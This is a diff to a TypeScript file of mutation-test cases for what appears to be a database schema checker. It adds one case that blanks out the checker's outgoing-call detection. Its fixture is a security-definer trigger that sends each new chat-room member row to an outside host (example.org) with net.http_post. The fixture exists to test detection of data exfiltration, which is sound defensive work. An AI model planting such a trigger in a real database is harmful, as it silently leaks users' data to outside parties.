@@ -611,6 +611,14 @@ export const decisionMutants: readonly DecisionMutant[] = [
       create trigger counted after insert on public.chat_room_members for each row execute function public.counted();`,
   },
   {
+    name: 'whoever asks to join is announced as a member',
+    from: "schema_fix.calls_out(), 'g')",
+    to: "'^$', 'g')",
+    database: `${chat} alter table public.chat_room_members enable row level security;
+      ${definer('posted()', 'trigger', "perform net.http_post('https://example.org', to_jsonb(new)); return null;")}
+      create trigger posted after insert on public.chat_room_members for each row execute function public.posted();`,
+  },
+  {
     name: 'whoever writes a word that the check knew is refused from then on',
     from: "where rule.contype = 'c'\n",
     to: 'where false\n',
